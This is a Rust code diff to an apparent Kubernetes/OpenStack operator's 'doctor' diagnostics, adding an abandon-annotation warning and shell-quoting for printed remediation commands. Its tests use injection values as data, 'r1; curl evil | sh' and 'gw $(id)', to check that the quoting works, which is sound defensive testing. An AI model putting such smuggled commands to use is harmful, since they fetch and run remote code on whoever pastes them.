@@ -1,19 +1,27 @@
 //! `doctor`: links that are not Ready, leg ports whose ClusterLink is gone, and gateway
 //! routes that point at an address no port holds (or at a leg nobody owns any more).
+//! Every command it prints carries each value it interpolates as one shell word
+//! (`bnerd_api::echo::shell_word`): a port's `device_id` is whatever its owner set.
+//! One module: the checks share one read of the transit network's ports and one kind of
+//! finding; the table tests at the bottom are half its length.
 
 use std::net::Ipv4Addr;
 
 use bnerd_api::ClusterLink;
 use bnerd_api::ConditionType;
 use bnerd_api::conditions::{find, is_true};
-use bnerd_api::names::{leg_owner_uid, link_name_in_tags};
+use bnerd_api::echo::shell_word;
+use bnerd_api::names::{ANNOTATION_ABANDON, leg_owner_uid, link_name_in_tags};
 use bnerd_cloud::fabric::{Fabric, FabricError};
 use bnerd_cloud::{CloudError, Neutron, Port, PortQuery, Route};
+use bnerd_engine::plan::share::share_command;
 
-/// One line of the report.
+/// One line of the report: fine, a problem (exit 1), or a warning: nothing is wrong yet,
+/// but something is set that needs a person's attention before it does harm.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Finding {
     pub problem: bool,
+    pub warning: bool,
     pub text: String,
 }
 
@@ -21,6 +29,7 @@ impl Finding {
     fn ok(text: String) -> Self {
         Self {
             problem: false,
+            warning: false,
             text,
         }
     }
@@ -28,9 +37,39 @@ impl Finding {
     fn problem(text: String) -> Self {
         Self {
             problem: true,
+            warning: false,
             text,
         }
     }
+
+    fn warning(text: String) -> Self {
+        Self {
+            problem: false,
+            warning: true,
+            text,
+        }
+    }
+}
+
+/// The abandon annotation on a link that is not being deleted. The operator reads it only
+/// while a link is deleting, so it does nothing yet; but whoever deletes the link later
+/// abandons its customer side without having decided it ("never set automatically — this
+/// always needs a human decision"), e.g. after `kubectl annotate` on the wrong link, or on a
+/// link that was recreated from one stuck in deletion by hand.
+fn abandon_warning(l: &ClusterLink) -> Option<Finding> {
+    if l.metadata.deletion_timestamp.is_some() {
+        return None;
+    }
+    let value = l.metadata.annotations.as_ref()?.get(ANNOTATION_ABANDON)?;
+    // The operator honours exactly "true" (controller.rs); any other value does nothing.
+    if value != "true" {
+        return None;
+    }
+    let name = l.metadata.name.as_deref().unwrap_or_default();
+    Some(Finding::warning(format!(
+        "ClusterLink {name}: annotation {ANNOTATION_ABANDON}=true is set but the link is not being deleted; when it is, its customer-side leg port, router attachment and reverse routes are left behind without cleanup. Unless that is decided for this link's next deletion, remove it: kubectl annotate clusterlink {} {ANNOTATION_ABANDON}-",
+        shell_word(name)
+    )))
 }
 
 fn link_health(l: &ClusterLink) -> Finding {
@@ -66,12 +105,30 @@ fn ip_of(p: &Port) -> &str {
     p.first_ip().unwrap_or("no address")
 }
 
+/// The command that removes a port: a router interface is detached from its router (Neutron
+/// refuses to delete it), any other port is deleted.
 fn remove_port_hint(p: &Port) -> String {
-    if p.device_id.is_empty() {
-        format!("openstack port delete {}", p.id)
+    if p.is_router_interface() {
+        format!(
+            "openstack router remove port {} {}",
+            shell_word(&p.device_id),
+            shell_word(&p.id)
+        )
     } else {
-        format!("openstack router remove port {} {}", p.device_id, p.id)
+        format!("openstack port delete {}", shell_word(&p.id))
     }
+}
+
+/// The command that removes a route from the gateway router.
+fn remove_route_hint(r: &Route, router: &str) -> String {
+    format!(
+        "openstack router remove route --route {} {}",
+        shell_word(&format!(
+            "destination={},gateway={}",
+            r.destination, r.nexthop
+        )),
+        shell_word(router)
+    )
 }
 
 /// What `doctor` found, and whether the cloud could be asked at all.
@@ -143,6 +200,7 @@ pub async fn diagnose(
         )));
     }
     out.extend(links.iter().map(link_health));
+    out.extend(links.iter().filter_map(abandon_warning));
     let fabric = match fabric {
         Ok(f) => f,
         Err(e) => {
@@ -227,12 +285,18 @@ async fn cloud_findings(
         });
         out.push(match ports.iter().find(|p| p.has_ip(&r.nexthop)) {
             None => Finding::problem(format!(
-                "gateway router route {} via {}: no port holds {}, so the traffic goes nowhere and whoever gets that address next receives it; remove it: openstack router remove route --route destination={},gateway={} {}",
-                r.destination, r.nexthop, r.nexthop, r.destination, r.nexthop, gw.id
+                "gateway router route {} via {}: no port holds {}, so the traffic goes nowhere and whoever gets that address next receives it; remove it: {}",
+                r.destination,
+                r.nexthop,
+                r.nexthop,
+                remove_route_hint(r, &gw.id)
             )),
             Some(p) if orphan(p) => Finding::problem(format!(
-                "gateway router route {} via {}: that address is the leg port {} of a ClusterLink that no longer exists; remove the route first: openstack router remove route --route destination={},gateway={} {}",
-                r.destination, r.nexthop, p.id, r.destination, r.nexthop, gw.id
+                "gateway router route {} via {}: that address is the leg port {} of a ClusterLink that no longer exists; remove the route first: {}",
+                r.destination,
+                r.nexthop,
+                p.id,
+                remove_route_hint(r, &gw.id)
             )),
             Some(_) if recorded => Finding::ok(format!(
                 "gateway router route {} via {}",
@@ -279,7 +343,8 @@ pub async fn share_findings(network_id: &str, links: &[CrossTenantLink]) -> Vec<
                     "ClusterLink {name}: the transit network is visible to project {project} (shared)"
                 )),
                 Err(e) if e.is_not_found() => Finding::problem(format!(
-                    "ClusterLink {name}: the transit network {network_id} is not visible to project {project}; the operator shares it at the link's next reconcile, or an OpenStack admin runs once: openstack network rbac create --type network --action access_as_shared --target-project {project} {network_id}"
+                    "ClusterLink {name}: the transit network {network_id} is not visible to project {project}; the operator shares it at the link's next reconcile, or an OpenStack admin runs once: {}",
+                    share_command(project, network_id)
                 )),
                 Err(e) => Finding::problem(format!(
                     "ClusterLink {name}: checking the share with project {project} with the customer credential failed: {e}"
@@ -316,6 +381,83 @@ mod tests {
             kind: String::new(),
             message: "m".into(),
         }
+    }
+
+    fn link_with(annotations: &[(&str, &str)], deleting: bool) -> ClusterLink {
+        let mut l = ClusterLink::new("l1", Default::default());
+        l.metadata.annotations = Some(
+            annotations
+                .iter()
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect(),
+        );
+        if deleting {
+            l.metadata.deletion_timestamp =
+                Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(
+                    k8s_openapi::jiff::Timestamp::UNIX_EPOCH,
+                ));
+        }
+        l
+    }
+
+    /// The abandon annotation on a live link is a warning (not a problem: nothing is wrong
+    /// yet) naming the command that removes it; on a deleting link it is what it is for.
+    #[test]
+    fn an_abandon_annotation_on_a_live_link_is_a_warning() {
+        let w =
+            abandon_warning(&link_with(&[(ANNOTATION_ABANDON, "true")], false)).expect("a warning");
+        assert!(w.warning && !w.problem, "{w:?}");
+        assert!(
+            w.text.contains("not being deleted")
+                && w.text.ends_with(
+                    "kubectl annotate clusterlink l1 ipsec.bnerd.net/abandon-customer-resources-"
+                ),
+            "{}",
+            w.text
+        );
+        assert_eq!(
+            abandon_warning(&link_with(&[(ANNOTATION_ABANDON, "true")], true)),
+            None
+        );
+        assert_eq!(
+            abandon_warning(&link_with(&[(ANNOTATION_ABANDON, "false")], false)),
+            None
+        );
+        assert_eq!(abandon_warning(&link_with(&[("a", "b")], false)), None);
+    }
+
+    /// A port's device_id is whatever its owner set: the remove command carries it as one
+    /// quoted word, so pasting it runs nothing else.
+    #[test]
+    fn remove_commands_quote_what_the_cloud_said() {
+        let p = Port {
+            id: "p1".into(),
+            device_id: "r1; curl evil | sh".into(),
+            device_owner: "network:router_interface".into(),
+            ..Default::default()
+        };
+        assert_eq!(
+            remove_port_hint(&p),
+            "openstack router remove port 'r1; curl evil | sh' p1"
+        );
+        let plain = Port {
+            device_id: "0c3e8f5a-1111-4222-8333-444455556666".into(),
+            ..p.clone()
+        };
+        assert_eq!(
+            remove_port_hint(&plain),
+            "openstack router remove port 0c3e8f5a-1111-4222-8333-444455556666 p1"
+        );
+        // Not a router interface: deleted, whatever device_id says.
+        let loose = Port {
+            device_owner: "compute:nova".into(),
+            ..p
+        };
+        assert_eq!(remove_port_hint(&loose), "openstack port delete p1");
+        assert_eq!(
+            remove_route_hint(&Route::new("10.1.0.0/16", "10.254.0.3"), "gw $(id)"),
+            "openstack router remove route --route destination=10.1.0.0/16,gateway=10.254.0.3 'gw $(id)'"
+        );
     }
 
     /// The cloud not answering, or Keystone refusing the credential, is "could not check";
